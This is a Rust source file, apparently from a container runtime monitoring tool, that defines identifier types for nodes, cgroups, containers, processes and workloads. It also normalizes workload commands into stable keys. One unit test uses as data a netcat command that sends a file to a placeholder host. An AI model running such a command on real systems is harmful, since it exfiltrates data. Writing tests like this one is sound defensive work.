//! Names of things: nodes, cgroups, containers, processes, namespaces, workloads.
//!
//! Not here: what is known about them (`identity.rs`) and what they did (`event.rs`).

use std::fmt;
use std::sync::Arc;

use serde::{Deserialize, Deserializer, Serialize};

use crate::shape::shape;
use crate::time::Time;
use crate::untrusted::Untrusted;

/// A host that runs containers, by its host name.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(transparent)]
pub struct NodeId(Arc<str>);

impl NodeId {
    /// A node by name; names longer than 253 bytes (the limit of DNS) are cut.
    pub fn new(name: &str) -> Self {
        let end = name.char_indices().map(|(at, c)| at + c.len_utf8()).take_while(|&end| end <= 253).last();
        Self(Arc::from(&name[..end.unwrap_or(0)]))
    }

    /// The name.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for NodeId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A control group by the inode number of its directory: on cgroup v2 and hybrid hosts the number that
/// `bpf_get_current_cgroup_id` gives; on v1-only hosts the inode in the cpuacct hierarchy.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(transparent)]
pub struct CgroupId(pub u64);

impl CgroupId {
    /// Numbers from here on are no inodes: file systems in memory count up from 1.
    const OF_NAMESPACE: u64 = 1 << 63;

    /// Stands for the cgroup of a container that has none of its own, because it shares one with processes of the host:
    /// made of its pid namespace, or its mount namespace when it has only that. Nothing can be read of it.
    pub fn of_namespace(namespace: u32) -> Self {
        Self(Self::OF_NAMESPACE | u64::from(namespace))
    }

    #[expect(clippy::trivially_copy_pass_by_ref, reason = "the signature is serde's")]
    pub(crate) fn is_unknown(&self) -> bool {
        self.0 == 0
    }

    /// The namespace that it is made of; `None` of a real cgroup.
    pub fn namespace(self) -> Option<u32> {
        u32::try_from(self.0 & !Self::OF_NAMESPACE).ok().filter(|_| !self.is_real())
    }

    /// Whether there is such a cgroup, as opposed to a namespace that has none.
    pub fn is_real(self) -> bool {
        self.0 & Self::OF_NAMESPACE == 0
    }
}

impl fmt::Display for CgroupId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.0)
    }
}

/// One container, kernel first: names and images are facts that arrive later. `started` tells apart two
/// containers that were given the same cgroup number one after the other.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct ContainerKey {
    /// The host it runs on.
    pub node: NodeId,
    /// Its control group.
    pub cgroup: CgroupId,
    /// When its first process was seen.
    pub started: Time,
}

/// A process, told apart from a later one with the same pid by its start.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct ProcessKey {
    /// Thread-group id in the host's pid namespace.
    pub pid: u32,
    /// Start in nanoseconds since boot, cut to whole clock ticks (10 ms): `/proc` tells no more.
    pub start_ns: u64,
}

/// The namespaces of a process that tell a container from the host, as inode numbers of `/proc/PID/ns`.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct Namespaces {
    /// Pid namespace of the process itself.
    pub pid: u32,
    /// Mount namespace.
    pub mnt: u32,
    /// Network namespace.
    pub net: u32,
}

/// What survives a restart: the key of baselines, approvals and incidents. Made by
/// [`crate::identity::Container::workload`]; never from labels alone. The command in it is in its [`shape`]: what changes
/// nothing makes no other workload.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(transparent)]
pub struct WorkloadKey(Untrusted);

impl WorkloadKey {
    /// A workload by its text form, bounded like all foreign text. Forms that were stored before commands had a shape
    /// become the same key as the workload has now.
    pub fn new(text: &str) -> Self {
        let text = Untrusted::new(text);
        match shaped(text.raw()) {
            Some(shaped) => Self(Untrusted::new(&shaped)),
            None => Self(text),
        }
    }

    /// The text as it came, unescaped: for comparing, not for showing.
    pub fn raw(&self) -> &str {
        self.0.raw()
    }

    /// What people call it, unescaped: the service (`swarm:shop`, `compose:shop/web`), the image without its command, or
    /// the program of what no runtime claims.
    pub fn short(&self) -> &str {
        let text = self.raw();
        let is_service = text.starts_with("swarm:") || text.starts_with("compose:");
        let end = if is_service || text.starts_with("unclaimed:") { text.find(' ') } else { text.find(" [") };
        &text[..end.unwrap_or(text.len())]
    }
}

// Keys are stored with approvals, incidents and expectations, and older ones have their commands as they were typed.
impl<'de> Deserialize<'de> for WorkloadKey {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        Ok(Self::new(&String::deserialize(deserializer)?))
    }
}

/// The text with its command in its shape; `None` for one without a command.
fn shaped(text: &str) -> Option<String> {
    if let Some(program) = text.strip_prefix("unclaimed:") {
        return Some(format!("unclaimed:{}", shape(program)));
    }
    let is_service = text.starts_with("swarm:") || text.starts_with("compose:");
    let (image, command) = text.split_once(" [").filter(|_| !is_service)?;
    let (command, end) = command.strip_suffix(']').map_or((command, ""), |command| (command, "]"));
    Some(format!("{image} [{}{end}", shape(command)))
}

impl fmt::Display for WorkloadKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.0.fmt(f)
    }
}

#[cfg(test)]
mod tests {
    use super::WorkloadKey;

    fn stored(text: &str) -> WorkloadKey {
        serde_json::from_value(serde_json::json!(text)).unwrap()
    }

    #[test]
    fn a_comment_splits_no_workload() {
        let workload = |n| WorkloadKey::new(&format!("busybox [sh -c 'nc drop.example 80 </data' # {n}]"));
        assert_eq!(workload(1), workload(2));
        assert_eq!(workload(1).short(), "busybox");
    }

    #[test]
    fn a_key_that_was_stored_as_it_was_typed_is_the_one_of_today() {
        for typed in [
            "busybox [sh -c sleep  5 # x]",
            "shop/web [httpd -f]",
            "swarm:shop shop/web",
            "unclaimed:sh -c run 3",
        ] {
            assert_eq!(stored(typed), WorkloadKey::new(typed));
            assert_eq!(stored(WorkloadKey::new(typed).raw()), WorkloadKey::new(typed));
        }
        assert_eq!(WorkloadKey::new("shop/web [httpd -f]").raw(), "shop/web [httpd -f]");
        let cut = format!("busybox [sh -c {}", "run 7; ".repeat(100));
        assert_eq!(stored(&cut), WorkloadKey::new(&cut));
    }
}
